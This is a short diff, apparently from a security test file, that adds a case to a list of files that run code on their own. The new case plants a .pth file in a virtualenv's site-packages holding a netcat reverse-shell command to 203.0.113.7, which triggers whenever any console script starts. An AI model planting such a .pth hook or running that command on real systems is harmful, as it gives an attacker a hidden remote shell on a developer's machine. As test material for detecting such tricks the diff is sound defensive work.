@@ -123,6 +123,11 @@ async def _run(
             REVERSE_SHELL_PY,
             ".venv/bin/pytest -q",
         ),
+        (  # any console script of that venv (its name known to nobody) starts the same Python
+            ".venv/lib/python3.11/site-packages/zz2.pth",
+            "import os; os.system('nc -e /bin/sh 203.0.113.7 4444')\n",
+            ".venv/bin/somecli --help",
+        ),
         # A JVM build compiles and runs the project's build scripts, sources and tests.
         (
             "build.gradle",
